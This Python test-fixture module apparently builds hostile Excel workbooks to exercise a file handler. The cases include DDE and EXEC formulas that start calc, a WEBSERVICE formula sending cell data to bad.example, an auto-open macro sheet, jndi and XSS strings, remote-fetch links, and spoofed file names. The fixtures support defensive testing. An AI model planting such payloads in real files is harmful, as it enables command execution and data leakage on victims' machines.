"""Workbooks that want something done: formulas that call out, links, macros, embedded programs, injected texts."""

from hostile_entry import (
    LINKS,
    MAIN,
    SOME_ROW,
    Collection,
    book_of,
    book_parts,
    book_with,
    rels,
    sheet,
    text_row,
    zip_of,
)

ACTIVE = Collection()
_DDE = "cmd|' /C calc'!A0"


def _formula(*formulas: str) -> bytes:
    cells = "".join(f'<c r="{chr(65 + at)}2"><f>{text}</f><v>0</v></c>' for at, text in enumerate(formulas))
    return book_of(f'{SOME_ROW}<row r="2">{cells}</row>')


ACTIVE.add("formula dde.xlsx", "formulas that would start a program")(
    lambda: _formula(
        _DDE,
        "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
        "DDE(&quot;cmd&quot;,&quot;/C calc&quot;,&quot;x&quot;)",
    )
)
ACTIVE.add("formula webservice.xlsx", "formulas that would call a server")(
    lambda: _formula(
        'WEBSERVICE("http://bad.example/?"&amp;A1)',
        'IMAGE("http://bad.example/a.png")',
        'HYPERLINK("http://bad.example/","xem")',
        'RTD("bad",,"x")',
        'CALL("Shell32","ShellExecuteA","JJCCCCJ",0,"open","calc")',
    )
)
ACTIVE.add("texts like formulas.xlsx", "texts that begin with = + - @ and a tab")(
    lambda: book_of(
        text_row(1, f"={_DDE}", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "=HYPERLINK(&quot;http://bad.example&quot;)")
    )
)
ACTIVE.add("markup.xlsx", "script in cells and in the name of the sheet")(
    lambda: book_of(
        text_row(
            1,
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            '&lt;img src="x" onerror="alert(1)"&gt;',
            "{{ 7*7 }}",
            "${jndi:ldap://bad.example}",
        ),
        sheets=["&lt;b&gt;x&lt;/b&gt;"],
    )
)
ACTIVE.add("bidi.xlsx", "texts with controls that turn the direction of writing, and with terminal escapes")(
    lambda: book_of(
        text_row(1, "\u202efdp.xslx", "\u2066a\u2069", "_x001B_[2J_x0007_", "\u200f\u200e"), sheets=["\u202eS"]
    )
)
ACTIVE.add("<img src=x onerror=alert(1)>.xlsx", "markup in the name of the file")(book_of)
ACTIVE.add("=cmd.xlsx", "a file name that begins like a formula")(lambda: book_of(text_row(1, "=cmd")))
ACTIVE.add("báo cáo\u202excod.xlsx", "a file name with a control that turns the direction of writing")(
    lambda: book_of(text_row(1, "quay"))
)
ACTIVE.add("new\nline.xlsx", "a file name with a line end")(lambda: book_of(text_row(1, "dòng mới")))
ACTIVE.add("escape\x1b[2J.xlsx", "a file name with a terminal escape")(lambda: book_of(text_row(1, "thoát")))
ACTIVE.add("invalid\udcff name.xlsx", "a file name that is no UTF-8")(lambda: book_of(text_row(1, "tên tệp")))
ACTIVE.add("n" * 240 + ".xlsx", "a file name as long as the disk takes")(lambda: book_of(text_row(1, "tên dài")))


def _linked(
    kind: str, target: str, part: str, content: str | bytes, sheet_xml: str = "", sheet_links: str = ""
) -> bytes:
    parts = book_parts(after=sheet_xml, links=[("x1", kind, target)])
    parts[part] = content
    if sheet_links:
        parts["xl/worksheets/_rels/sheet1.xml.rels"] = sheet_links
    return zip_of(parts)


@ACTIVE.add("external link unc.xlsx", "a link to a workbook on a server in the network")
def external_unc() -> bytes:
    link = f'<externalLink xmlns="{MAIN}" xmlns:r="{LINKS}"><externalBook r:id="r1"/></externalLink>'
    parts = book_parts(
        text_row(1, "liên kết", "ngoài"), links=[("x1", "externalLink", "externalLinks/externalLink1.xml")]
    )
    parts["xl/externalLinks/externalLink1.xml"] = link
    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = rels(
        ("r1", "externalLinkPath", r"\\bad.example\share\x.xlsx"), external=True
    )
    return zip_of(parts)


@ACTIVE.add("external link dangling.xlsx", "a link whose part is missing")
def external_dangling() -> bytes:
    return zip_of(book_parts(text_row(1, "liên kết", "đứt"), links=[("x1", "externalLink", "externalLinks/none.xml")]))


@ACTIVE.add("dde link.xlsx", "a DDE link in the package")
def dde_link() -> bytes:
    return _linked(
        "externalLink",
        "externalLinks/externalLink1.xml",
        "xl/externalLinks/externalLink1.xml",
        f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>',
    )


@ACTIVE.add("connections.xlsx", "a query that would fetch a page when the workbook is opened")
def connections() -> bytes:
    return _linked(
        "connections",
        "connections.xml",
        "xl/connections.xml",
        f'<connections xmlns="{MAIN}"><connection id="1" refreshOnLoad="1" type="4"><webPr url="http://bad.example/"/></connection></connections>',
    )


@ACTIVE.add("remote image.xlsx", "a drawing whose picture lies on a server")
def remote_image() -> bytes:
    parts = book_parts(text_row(1, "ảnh"), after='<drawing r:id="d1"/>')
    parts["xl/worksheets/_rels/sheet1.xml.rels"] = rels(("d1", "drawing", "../drawings/drawing1.xml"))
    parts["xl/drawings/drawing1.xml"] = "<wsDr/>"
    parts["xl/drawings/_rels/drawing1.xml.rels"] = rels(("i1", "image", "http://bad.example/pixel.png"), external=True)
    return zip_of(parts)


@ACTIVE.add("hyperlinks.xlsx", "links to file:// and javascript:")
def hyperlinks() -> bytes:
    parts = book_parts(
        text_row(1, "xem", "tại đây"),
        after='<hyperlinks><hyperlink ref="A1" r:id="h1"/><hyperlink ref="B1" r:id="h2"/></hyperlinks>',
    )
    parts["xl/worksheets/_rels/sheet1.xml.rels"] = rels(
        ("h1", "hyperlink", "file:///C:/Windows/System32/calc.exe"),
        ("h2", "hyperlink", "javascript:alert(1)"),
        external=True,
    )
    return zip_of(parts)


@ACTIVE.add("macro sheet.xlsm", "a sheet of Excel 4.0 macros that starts by itself")
def macro_sheet() -> bytes:
    parts = book_parts(
        sheets=["S", "Macro1"],
        names='<definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName></definedNames>',
    )
    parts["xl/_rels/workbook.xml.rels"] = rels(
        ("s1", "worksheet", "worksheets/sheet1.xml"), ("s2", "xlMacrosheet", "macrosheets/sheet1.xml")
    )
    parts["xl/macrosheets/sheet1.xml"] = (
        f'<macrosheet xmlns="{MAIN}"><sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row></sheetData></macrosheet>'
    )
    return zip_of(parts)


@ACTIVE.add("macros.xlsm", "a VBA project (its bytes mean nothing)")
def vba_project() -> bytes:
    return _linked(
        "vbaProject", "vbaProject.bin", "xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000)
    )


@ACTIVE.add("activex.xlsx", "an ActiveX control and an embedded program")
def active_x() -> bytes:
    links = rels(("c1", "control", "../activeX/activeX1.xml"), ("o1", "oleObject", "../embeddings/oleObject1.bin"))
    parts = book_parts(
        text_row(1, "điều khiển"), after='<oleObjects><oleObject progId="Package" r:id="o1"/></oleObjects>'
    )
    parts["xl/worksheets/_rels/sheet1.xml.rels"] = links
    parts["xl/activeX/activeX1.xml"] = "<ocx/>"
    parts["xl/embeddings/oleObject1.bin"] = b"MZ" + bytes(500)
    return zip_of(parts)


@ACTIVE.add("custom ui.xlsm", "a ribbon that calls a macro when the workbook is opened")
def custom_ui() -> bytes:
    return book_with("customUI/customUI.xml", "<customUI onLoad=\"'http://bad.example/x.xlam'!Auto\"/>")


@ACTIVE.add("processing instruction.xlsx", "a style sheet that would be fetched, named in the sheet")
def processing_instruction() -> bytes:
    return book_with(
        "xl/worksheets/sheet1.xml",
        '<?xml-stylesheet type="text/xsl" href="http://bad.example/x.xsl"?>' + sheet(text_row(1, "kiểu")),
    )
